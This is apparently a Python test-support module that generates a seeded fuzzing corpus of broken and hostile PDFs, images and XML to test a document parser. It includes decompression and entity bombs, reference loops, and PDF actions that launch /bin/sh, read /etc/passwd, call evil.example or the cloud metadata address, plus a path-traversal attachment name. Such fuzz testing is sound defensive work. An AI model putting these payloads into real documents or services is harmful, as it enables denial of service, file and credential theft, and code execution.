"""Generates broken and hostile documents; equal seeds give equal documents.

Some are built by hand: decompression bombs, loops, wrong sizes, active content. The others are
mutations of small valid documents, and of those in the folder ``more`` if it is set.
"""

import itertools
import random
import re
import zlib
from collections.abc import Callable, Iterator, Sequence
from io import BytesIO
from pathlib import Path

from PIL import Image

from tests.support.documents.pdf_samples import assemble, box, pdf, stream, text

MAX_SEED_BYTES = 200_000
_NUMBER = re.compile(rb"(?<=[ \[])-?\d+(?:\.\d+)?(?=[ \]\n])")
_TOKEN = re.compile(rb"/[A-Za-z]+|obj|endobj|stream|endstream|xref|trailer|<<|>>|\[|\]")
_NUMBERS = (
    *(b"-1", b"0", b"1", b"65536", b"2147483647", b"-2147483648", b"4294967296"),
    *(b"99999999999999999999", b"1e308", b"0.0000000001", b"-0", b"3.4028235e38"),
)
Mutation = Callable[[bytes, random.Random], bytes]


def corpus(
    count: int, seed: int, more: Path | None = None, *, bombs: bool = True
) -> Iterator[tuple[str, bytes]]:
    """``count`` documents as names and bytes: first those built by hand, then mutations."""
    built = list(_built(bombs))
    yield from built[:count]
    chance = random.Random(seed)
    seeds = _seeds(more)
    for number in range(len(built), count):
        name, data = chance.choice(seeds)
        for _ in range(chance.choice((1, 1, 2, 4))):
            data = chance.choice(_MUTATIONS)(data, chance)
        yield f"mutant-{number:04d}-{name}", data


def _seeds(more: Path | None) -> list[tuple[str, bytes]]:
    seeds = [
        ("text.pdf", pdf([text("one"), text("two")])),
        ("drawn.pdf", pdf([box(0.2, 0.4, 0.6, (50, 50, 300, 300)) * 20])),
        ("packed.pdf", _packed(zlib.compress(text("packed") * 50))),
        ("image.png", _image("PNG")),
        ("image.jpg", _image("JPEG")),
        ("image.tif", _image("TIFF")),
        ("image.webp", _image("WEBP")),
    ]
    if more is not None and more.is_dir():
        small = (p for p in sorted(more.rglob("*.pdf")) if p.stat().st_size <= MAX_SEED_BYTES)
        seeds.extend((path.name, path.read_bytes()) for path in small)
    return seeds


def _image(kind: str) -> bytes:
    buffer = BytesIO()
    Image.linear_gradient("L").resize((80, 60)).convert("RGB").save(buffer, kind)
    return buffer.getvalue()


# Mutations ------------------------------------------------------------------------------


def _flip(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.choice((1, 5, 50))):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(1, len(data) + 1)]


def _drop(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    return data[:start] + data[start + chance.randrange(1, 200) :] or b"%"


def _repeat(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    piece = data[start : start + chance.randrange(1, 500)]
    return data[:start] + piece * chance.choice((2, 10, 100)) + data[start:]


def _noise(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    return data[:start] + chance.randbytes(chance.choice((1, 20, 400))) + data[start:]


def _number(data: bytes, chance: random.Random) -> bytes:
    return _replace(data, _NUMBER, chance, lambda _: chance.choice(_NUMBERS))


def _token(data: bytes, chance: random.Random) -> bytes:
    tokens = _TOKEN.findall(data) or [b"obj"]
    return _replace(data, _TOKEN, chance, lambda _: chance.choice(tokens))


def _replace(
    data: bytes, pattern: re.Pattern[bytes], chance: random.Random, new: Callable[[bytes], bytes]
) -> bytes:
    matches = list(pattern.finditer(data))
    if not matches:
        return _flip(data, chance)
    match = chance.choice(matches)
    return data[: match.start()] + new(match.group()) + data[match.end() :]


_MUTATIONS: tuple[Mutation, ...] = (_flip, _cut, _drop, _repeat, _noise, _number, _token)


# Built by hand --------------------------------------------------------------------------


def _built(bombs: bool) -> Iterator[tuple[str, bytes]]:
    """Documents that each do one hostile thing."""
    kinds = (_loops, _wrong_sizes, _active, _others)
    for make in (_bombs, *kinds) if bombs else kinds:
        for name, data in make():
            yield f"built-{name}", data


def _packed(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """One page whose content is ``data`` behind ``filters``."""
    content = stream(data, b"/Filter [%s]" % filters)
    return _page(content)


def _page(content: bytes, resources: bytes = b"", *more: bytes, page: bytes = b"") -> bytes:
    """One page: object 4 is ``content``, further objects are 5, 6, …"""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            b"/Resources << %s >> %s >>" % (resources, page),
            content,
            *more,
        ]
    )


def _zeros(megabytes: int, byte: bytes = b" ") -> bytes:
    packer = zlib.compressobj(9)
    block = byte * (1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "flate-bomb.pdf", _packed(_zeros(200))
    twice = zlib.compress(_zeros(500), 9)
    yield "flate-twice-bomb.pdf", _packed(twice, b"/FlateDecode /FlateDecode")
    yield "run-length-bomb.pdf", _packed(b"\x81 " * 400_000, b"/RunLengthDecode")
    yield "image-bomb.pdf", _picture(40_000, 40_000, _zeros(191, b"\0"))
    yield "image-lie.pdf", _picture(2_000_000_000, 2_000_000_000, b"x")
    yield "page-of-the-size-of-a-town.pdf", pdf([text("x")], size=(14_400_000, 14_400_000))
    yield "many-operators.pdf", _packed(zlib.compress(b"0 0 m 9 9 l S\n" * 300_000, 9))
    yield "deep-states.pdf", _page(stream(b"q " * 500_000 + b"0 0 9 9 re f"))
    yield "deep-arrays.pdf", _page(stream(b""), b"/X " + b"[" * 100_000 + b"]" * 100_000)
    yield "deep-dictionaries.pdf", _page(stream(b""), b"/X " + b"<</a" * 20_000 + b">>" * 20_000)
    yield "long-string.pdf", _page(stream(b"(" + b"a" * 3_000_000 + b") Tj"))


def _picture(width: int, height: int, data: bytes) -> bytes:
    keys = b"/Type /XObject /Subtype /Image /BitsPerComponent 1 /ColorSpace /DeviceGray "
    keys += b"/Width %d /Height %d /Filter /FlateDecode" % (width, height)
    return _page(
        stream(b"200 0 0 200 0 0 cm /I Do"), b"/XObject << /I 5 0 R >>", stream(data, keys)
    )


def _form(content: bytes, resources: bytes) -> bytes:
    keys = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << %s >>" % resources
    return stream(content, keys)


def _loops() -> Iterator[tuple[str, bytes]]:
    itself = _form(b"/F Do", b"/XObject << /F 5 0 R >>")
    yield "form-draws-itself.pdf", _page(stream(b"/F Do"), b"/XObject << /F 5 0 R >>", itself)
    levels = [
        _form(b"/F Do " * 20, b"/XObject << /F %d 0 R >>" % (number + 1)) for number in range(5, 13)
    ]
    last = _form(b"0 0 100 100 re f", b"")
    laughs = _page(stream(b"/F Do"), b"/XObject << /F 5 0 R >>", *levels, last)
    yield "billion-laughs.pdf", laughs
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 "
    tile += b"/YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>"
    tiled = stream(b"/Pattern cs /P scn 0 0 1 1 re f", tile)
    paint = stream(b"/Pattern cs /P scn 0 0 200 200 re f")
    yield "pattern-of-itself.pdf", _page(paint, b"/Pattern << /P 5 0 R >>", tiled)
    yield (
        "kids-loop.pdf",
        assemble(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>",
            ]
        ),
    )
    sound = pdf([text("x")])
    start = sound.rindex(b"startxref") + 10
    prev = b"/Prev " + sound[start:].split(b"\n")[0] + b" /Root"
    yield "xref-loop.pdf", sound.replace(b"/Root", prev)
    yield "length-of-itself.pdf", _page(b"<< /Length 4 0 R >>\nstream\nx\nendstream")
    chain = [b"%d 0 R" % (number + 1) for number in range(5, 2000)]
    yield "chain-of-references.pdf", _page(stream(b""), b"/X 5 0 R", *chain, b"null")


def _wrong_sizes() -> Iterator[tuple[str, bytes]]:
    for claimed in (-1, 0, 10**6, 2**31 - 1, 2**63):
        yield f"count-{claimed}.pdf", pdf([text("x")], count=claimed)
    for name, size in (("zero", (0, 0)), ("negative", (-5, -5)), ("thin", (1, 14_000))):
        yield f"box-{name}.pdf", pdf([text("x")], size=size)
    for name, value in (("nan", b"nan"), ("words", b"/a"), ("huge", b"1e39"), ("few", b"")):
        data = pdf([text("x")]).replace(b"[0 0 612 792]", b"[0 0 %s %s]" % (value, value))
        yield f"box-of-{name}.pdf", data
    for rotation in (1, 45, -90, 10**9):
        extra = b"/Rotate %d /UserUnit 1000000" % rotation
        yield f"rotated-{rotation}.pdf", pdf([text("x")], page_extra=extra)
    yield "no-pages.pdf", pdf([])


def _active() -> Iterator[tuple[str, bytes]]:
    actions = {
        "javascript": b"<< /S /JavaScript /JS (while(1){app.alert\\(1\\)}) >>",
        "launch": b"<< /S /Launch /F (/bin/sh) >>",
        "file-link": b"<< /S /URI /URI (file:///etc/passwd) >>",
        "remote": b"<< /S /GoToR /F (//evil.example/x.pdf) /D [0 /Fit] >>",
        "submit": b"<< /S /SubmitForm /F (http://169.254.169.254/latest/meta-data/) >>",
    }
    for name, action in actions.items():
        yield f"{name}.pdf", pdf([text(name)], catalog_extra=b"/OpenAction %s" % action)
    external = b"<< /Length 0 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n\nendstream"
    yield "content-from-a-file.pdf", _page(external)
    yield "link-text.pdf", pdf([text("![x]\\(javascript:alert\\(1\\)\\) <script>alert</script>")])
    names = b"<< /EmbeddedFiles << /Names [(../../../evil) 4 0 R] >> >>"
    attached = stream(_zeros(50), b"/Type /EmbeddedFile /Filter /FlateDecode")
    yield (
        "attachment.pdf",
        pdf([text("x")], catalog_extra=b"/Names %s" % names, objects=[attached]),
    )


def _others() -> Iterator[tuple[str, bytes]]:
    yield "empty.pdf", b""
    yield "only-a-header.pdf", b"%PDF-1.7\n"
    yield "zip.pdf", b"PK\x03\x04" + b"\0" * 200
    yield "postscript.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"
    yield "html.pdf", b"<html><script>alert(1)</script>"
    yield "xml-bomb.pdf", _entities()
    yield "huge.tif", _tiff(b"\xff\xff\xff\x7f")
    yield "no-width.tif", _tiff(b"\0\0\0\0")
    yield "pixels.png", _png_claiming(2**31 - 1, 2**31 - 1)
    yield "wide.png", _png_claiming(100_000, 100_000)


def _entities() -> bytes:
    lines = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)]
    return ("<!DOCTYPE x [<!ENTITY e0 'ha'>" + "".join(lines) + "]><x>&e11;</x>").encode()


def _tiff(width: bytes) -> bytes:
    """A TIFF whose directory has ``width`` and is its own successor."""
    entry = b"\x00\x01\x04\x00\x01\x00\x00\x00" + width
    return b"II*\0\x08\0\0\0\x01\0" + entry + b"\x08\0\0\0"


def _png_claiming(width: int, height: int) -> bytes:
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    body = b"IDAT" + _zeros(1, b"\0")
    chunks = (
        (len(part) - 4).to_bytes(4, "big") + part + zlib.crc32(part).to_bytes(4, "big")
        for part in (head, body, b"IEND")
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def write_corpus(folder: Path, documents: Sequence[tuple[str, bytes]]) -> list[Path]:
    """Write the documents as files into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = [folder / name for name, _ in documents]
    for path, (_, data) in zip(paths, documents, strict=True):
        path.write_bytes(data)
    return paths


def batches(documents: Iterator[tuple[str, bytes]], size: int) -> Iterator[list[tuple[str, bytes]]]:
    """The documents in lists of ``size``."""
    while batch := list(itertools.islice(documents, size)):
        yield batch
